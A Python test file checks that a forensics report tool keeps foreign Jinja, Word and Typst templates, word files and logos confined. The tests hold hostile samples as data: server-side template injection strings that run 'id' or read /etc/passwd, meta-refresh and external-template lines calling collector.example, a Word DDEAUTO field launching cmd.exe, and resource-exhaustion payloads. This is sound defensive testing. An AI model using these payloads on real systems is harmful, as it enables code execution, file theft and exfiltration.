"""Templates, words and logos of others: what they reach, write, start, take and say, tried as a hostile author would."""

from __future__ import annotations

import io
import os
import re
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from jinja2.exceptions import SecurityError, UndefinedError

from forensics.errors import UsageError
from forensics.report import foreign, writing
from forensics.report.text import wording
from forensics.report.text.wording import TEMPLATES
from tests.report import made

FACTS = made.facts(4, verdicts=[made.CONFIRM])
PLAIN = made.context(FACTS)
ENDED = re.compile("not done after|more memory needed|MemoryError|OverflowError|too|maximum|large", re.I)


def given(folder: Path, name: str, content: str | bytes) -> Any:
    """A context with one template of somebody else's."""
    place = folder / name
    place.write_bytes(content if isinstance(content, bytes) else content.encode())
    return replace(PLAIN, folder=folder)


def html(folder: Path, source: str) -> str:
    rendered = writing.render("html", FACTS, given(folder, "report.html", source))
    assert isinstance(rendered, bytes)
    return rendered.decode()


def page(folder: Path, source: str) -> str:
    """The page without the process around it."""
    rendered = writing.lay_out("html", FACTS, given(folder, "report.html", source))
    assert isinstance(rendered, bytes)
    return rendered.decode()


def word(folder: Path, text: str, part: str = "word/document.xml", find: str = "{{ title }}") -> Any:
    """The shipped Word template with `text` where it prints the title, or in another place."""
    out = io.BytesIO()
    with zipfile.ZipFile(TEMPLATES / "en-GB" / "incident.docx") as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == part:
                assert find.encode() in data
                data = data.replace(find.encode(), text.encode(), 1)
            new.writestr(name, data)
    return given(folder, "incident.docx", out.getvalue())


def test_an_own_folder_gives_the_same_bytes(tmp_path: Path) -> None:
    for name in ("html", "pdf", "docx", "csv"):
        assert writing.render(name, FACTS, replace(PLAIN, folder=tmp_path)) == writing.lay_out(name, FACTS, PLAIN)


ESCAPES = (
    "cycler.__init__.__globals__.os.popen('id').read()",
    "self.__init__.__globals__",
    "w.__class__.__mro__[1].__subclasses__()",
    "w['__class__']",
    "w|attr('__class__')",
    "w|attr('_locale')",
    "'{0.__class__}'.format(w)",
    "'{x.__class__.__init__.__globals__}'.format_map({'x': w})",
    "prose.re.compile('a')",
    "prose.domains.Path('/etc/passwd').read_text()",
    "prose.places",
    "prose.say.__globals__",
    "prose.say.__code__",
    "grids.__builtins__",
    "f.header.__dict__",
    "w.entries.update({'a': 'b'})",
    "w.entries.clear()",
    "answered.__closure__",
    "figures.append(1)",
    "loop_nothing",
    "f.__setattr__('evidence', ())",
    "namespace.__init__.__globals__",
    "[w]|map(attribute='__class__')|first",
    "joiner('x').__class__",
    "lipsum.__globals__",
)


@pytest.mark.parametrize("escape", ESCAPES)
def test_no_way_leads_from_a_page_to_the_program(tmp_path: Path, escape: str) -> None:
    with pytest.raises((SecurityError, UndefinedError)):
        writing.lay_out("html", FACTS, given(tmp_path, "report.html", "<!DOCTYPE html>{{ " + escape + " }}"))


def test_what_a_template_tries_is_told_as_its_own(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=re.escape(f"{tmp_path / 'report.html'}, line 2: SecurityError")):
        html(tmp_path, "<!DOCTYPE html>\n{{ " + ESCAPES[0] + " }}")


@pytest.mark.parametrize("escape", [one for one in ESCAPES if re.match(r"self|cycler|lipsum|namespace|joiner", one)])
def test_nor_from_a_word_document(tmp_path: Path, escape: str) -> None:
    with pytest.raises(UsageError):
        writing.lay_out("docx", FACTS, word(tmp_path, "{{ " + escape.replace("'", "&apos;") + " }}"))


def test_a_picture_does_not_lend_the_document(tmp_path: Path) -> None:
    victim = tmp_path / "written"
    text = (
        "{% for b in blocks if b.k == &apos;chart&apos; %}{{ b.picture.tpl.docx.save(&apos;"
        + str(victim)
        + "&apos;) }}{% endfor %}"
    )
    with pytest.raises(UsageError):
        writing.lay_out("docx", FACTS, word(tmp_path, text))
    assert not victim.exists()


@pytest.mark.parametrize(
    "source",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{{ 9 ** (9 ** 9) }}",
        "{{ 'a' * 10 ** 10 }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{{ '%9999999999d' % 1 }}",
        "{% include 'report.html' %}",
    ],
)
def test_time_and_memory_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
    monkeypatch.setattr(foreign, "BOUNDS", foreign.Bounds(seconds=3, memory=1 << 30))
    with pytest.raises(UsageError) as told:
        html(tmp_path, source)
    assert ENDED.search(str(told.value)), told.value


@pytest.mark.parametrize(
    "element",
    [
        '<meta http-equiv="refresh" content="0;url=https://collector.example/">',
        "<META HTTP-EQUIV=refresh content='0;url=//collector.example'>",
        "<svg><style><meta/http-equiv=refresh content=0></style></svg>",
        '<!--><meta http-equiv="refresh" content="0"><!-- -->',
        '<link rel="preconnect" href="https://collector.example">',
        "<base href=//collector.example>",
        '<meta name="a" content="b" http-equiv="refresh">',
    ],
)
def test_a_page_that_leads_elsewhere_by_itself_is_refused(tmp_path: Path, element: str) -> None:
    with pytest.raises(UsageError, match="another address"):
        page(tmp_path, f"<!DOCTYPE html><title>x</title>{element}")


@pytest.mark.parametrize(
    "start", ["<!DOCTYPE html>", "", "<script>1</script><!DOCTYPE html>", "<!-- a --><!DOCTYPE html>"]
)
def test_the_policy_stands_before_all_that_a_template_writes(tmp_path: Path, start: str) -> None:
    text = page(tmp_path, f"{start}<html><head><script>alert(1)</script></head><body>{{{{ title }}}}</body></html>")
    assert text.index("Content-Security-Policy") < text.index("<script>")
    assert text.count("Content-Security-Policy") == 1


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A server on the loopback that keeps what it is sent; a connection alone is kept, too."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        done = threading.Event()

        def serve() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                heard.append(b"connected")
                connection.close()

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        done.set()
        thread.join()


def test_typst_fetches_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: tuple[str, list[bytes]]
) -> None:
    """The proxy is how a connection to a package server would be seen."""
    address, heard = listener
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, address)
    source = '#import "@preview/cetz:0.3.4"\n= #json(bytes(sys.inputs.report)).title'
    theirs = given(tmp_path, "incident.typ", source)
    with pytest.raises(UsageError, match=r"incident\.typ"):
        writing.lay_out("pdf", FACTS, theirs)
    assert heard, "without the process around it typst asks for the package: else this test shows nothing"
    heard.clear()
    with pytest.raises(UsageError, match=r"incident\.typ"):
        writing.render("pdf", FACTS, theirs)
    assert not heard
    assert not any(path.name != "incident.typ" for path in tmp_path.rglob("*"))


def test_the_process_opens_no_socket_starts_nothing_and_writes_nothing(tmp_path: Path) -> None:
    """What holds should all else fail: the confinement itself."""
    program = f"""
import os, socket, sys
from forensics.report import confined
confined.limit(10, 4 << 30)
print(confined.confine())
def tried(call):
    try:
        call()
    except OSError as error:
        return type(error).__name__
    return "done"
def write():
    with open({str(tmp_path / "x")!r}, "wb") as file:
        file.write(b"x")
import threading
told = [tried(socket.socket), tried(lambda: os.execv("/bin/true", ["true"])), tried(write)]
other = threading.Thread(target=lambda: told.append(tried(socket.socket)))
other.start(); other.join()
print(*told)
"""
    out = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, env={**os.environ}
    ).stdout.split()
    assert out == ["True", "PermissionError", "PermissionError", "OSError", "PermissionError"]


def test_typst_reads_nothing_outside_of_the_folder(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("hidden words")
    own = tmp_path / "own"
    own.mkdir()
    for path in ("../secret", str(secret), "/../secret"):
        with pytest.raises(UsageError):
            writing.render("pdf", FACTS, given(own, "incident.typ", f'#read("{path}")'))


def test_a_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    own = tmp_path / "own"
    (own / "sub").mkdir(parents=True)
    (own / "sub" / "logo.svg").symlink_to("/etc/passwd")
    with pytest.raises(UsageError, match=r"logo\.svg: a link that leads out"):
        foreign.check(own)
    (own / "sub" / "logo.svg").unlink()
    (own / "here").symlink_to("sub")
    with pytest.raises(UsageError, match="holds nothing that a report is made of"):
        foreign.check(own)
    (own / "report.css").touch()
    foreign.check(own)


def test_typst_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(foreign, "BOUNDS", foreign.Bounds(seconds=5, memory=2 << 30))
    for source in (
        "#let n = 0\n#while n >= 0 { n = calc.rem(n + 1, 7) }",
        '#let s = "aaaa"\n#for n in range(40) { s = s + s }',
    ):
        with pytest.raises(UsageError):
            writing.render("pdf", FACTS, given(tmp_path, "incident.typ", source))


ACTIVE = (
    (
        "word/_rels/document.xml.rels",
        "</Relationships>",
        '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://collector.example/t.dotm" TargetMode="External"/></Relationships>',
    ),
    ("word/footer1.xml", " NUMPAGES ", " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "),
    ("word/footer1.xml", " NUMPAGES ", ' INCLUDEPICTURE "https://collector.example/a.png" '),
)


@pytest.mark.parametrize(("part", "find", "text"), ACTIVE)
def test_a_word_template_takes_nothing_in(tmp_path: Path, part: str, find: str, text: str) -> None:
    with pytest.raises(UsageError, match="of the templates"):
        writing.lay_out("docx", FACTS, word(tmp_path, text, part, find))


def test_the_shipped_word_template_as_ones_own(tmp_path: Path) -> None:
    assert writing.lay_out("docx", FACTS, word(tmp_path, "{{ title }}")) == writing.lay_out("docx", FACTS, PLAIN)


@pytest.mark.parametrize(
    "picture",
    [
        b"\x89PNG\r\n\x1a\nbroken",
        b"<svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 100_000,
        b"",
        b"\xff\xd8\xff",
    ],
)
def test_a_logo_that_is_none_is_named(picture: bytes) -> None:
    with pytest.raises(UsageError, match="logo"):
        writing.render("html", FACTS, replace(PLAIN, logo=("a logo", picture)))


WORDS = (
    '[title]\nnone = "{x.__class__}"',
    '[title]\nsuffix = "{meant.__class__.__mro__}"',
    '[title]\nsuffix = "{meant[0]}"',
    '[title]\nsuffix = "{meant!r}"',
    '[title]\nsuffix = "{meant:>999999999}"',
    '[title]\nsuffix = "{unknown}"',
    '[title]\nsuffix = "{"',
    '[title]\nsuffix = "{}"',
    '[title]\nsuffix = "{0}"',
    '[title]\nsuffix = "{{unknown}}"',
    '[title]\nnone = { other = "a", one = 3 }',
    '[title]\nnone = { other = "a" }',
    '[own]\ntext = "{a.b}"',
    "a = " + "[" * 5000,
    "\udcff",
)


@pytest.mark.parametrize("text", WORDS)
def test_words_reach_nothing(tmp_path: Path, text: str) -> None:
    place = tmp_path / "words.toml"
    place.write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(UsageError) as told:
        wording.load("en-GB", tmp_path)
    assert str(place) in str(told.value)


def test_words_of_ones_own_are_taken(tmp_path: Path) -> None:
    (tmp_path / "words.toml").write_text('[title]\nsuffix = "{typed} statt {meant}"\n[own]\ntext = "Gruß"\n', "utf-8")
    words = wording.load("en-GB", tmp_path)
    assert words("title.suffix", meant=".mil", typed=".ml") == ".ml statt .mil"
    assert words("own.text") == "Gruß"


def test_a_file_of_words_that_is_none(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "words.toml")
    with pytest.raises(UsageError, match="no file of words"):
        wording.load("en-GB", tmp_path)
